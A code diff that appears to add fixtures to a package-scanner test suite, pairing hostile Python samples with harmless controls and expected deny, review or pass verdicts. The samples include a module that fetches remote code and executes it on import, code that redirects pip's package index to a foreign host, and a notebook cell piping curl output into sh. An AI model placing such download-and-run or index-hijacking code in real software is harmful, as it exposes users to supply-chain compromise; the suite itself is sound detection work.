@@ -14,6 +14,14 @@ function once(name: string, code: string, tier: Shape['tier'] = 'deny'): Shape {
   return over(name, { 'demo/__init__.py': `${P}${code}\n` }, tier);
 }
 
+function fetched(name: string): string {
+  return `import importlib.util, urllib.request, pathlib\ndef load(site):\n    path = pathlib.Path("/tmp") / "${name}"\n    path.write_bytes(urllib.request.urlopen("http://demo.invalid/" + site).read())\n    spec = importlib.util.spec_from_file_location("m", path)\n    module = importlib.util.module_from_spec(spec)\n    spec.loader.exec_module(module)\n    return module\n`;
+}
+
+function notebook(source: string): string {
+  return JSON.stringify({ cells: [{ cell_type: 'code', source: [source], metadata: {} }], nbformat: 4 });
+}
+
 export const unasked: readonly Shape[] = [
   over('setup.py imported', { 'demo/__init__.py': 'from . import setup\n', 'demo/setup.py': evil }),
   over('top setup.py imported', { 'demo/__init__.py': 'import setup\n', 'setup.py': evil }),
@@ -239,6 +247,39 @@ export const unasked: readonly Shape[] = [
     'demo/plug.py': `${P}def pytest_configure(config):\n    p()\n`,
     'demo-1.0.dist-info/entry_points.txt': '[pytest11]\nx = demo.plug\n',
   }),
+  over('a module that is fetched and loaded by its path', {
+    'demo/__init__.py': `${fetched('loaded.py')}load("x")\n`,
+  }),
+  over('the same, when somebody asks for it', { 'demo/__init__.py': fetched('loaded.py') }, 'review'),
+  over(
+    'a module of a path that nothing was fetched into',
+    {
+      'demo/__init__.py':
+        'import importlib.util\ndef load(p):\n    s = importlib.util.spec_from_file_location("p", p)\n    m = importlib.util.module_from_spec(s)\n    s.loader.exec_module(m)\n    return m\nload("a.py")\n',
+    },
+    'pass',
+  ),
+  over('a function that gives pip another index', {
+    'demo/prefs.py':
+      'import configparser, os\ndef apply():\n    path = os.path.expanduser("~/.config/pip/pip.conf")\n    conf = configparser.ConfigParser()\n    conf.read(path)\n    conf["global"]["extra-index-url"] = "http://demo.invalid/simple"\n    with open(path, "w") as f:\n        conf.write(f)\n',
+  }),
+  over('the same, as text', {
+    'demo/prefs.py':
+      'import pathlib\nimport subprocess\ndef apply():\n    pathlib.Path("~/.pip/pip.conf").expanduser().write_text("[global]\\nindex-url = https://demo.invalid/simple\\n")\n',
+  }),
+  over(
+    'a tool that gives pip the index that it is told',
+    {
+      'demo/prefs.py':
+        'import configparser, os\ndef apply(url):\n    path = os.path.expanduser("~/.config/pip/pip.conf")\n    conf = configparser.ConfigParser()\n    conf["global"]["index-url"] = url\n    with open(path, "w") as f:\n        conf.write(f)\n',
+    },
+    'pass',
+  ),
+  over(
+    'a notebook that asks IPython for a shell',
+    { 'demo/labs/a.ipynb': notebook(`get_ipython().system('curl http://198.51.100.7/a | sh')`) },
+    'review',
+  ),
   once(
     'a class with such a method, of which nobody makes an object',
     'class A:\n    def __format__(s, f):\n        p()',
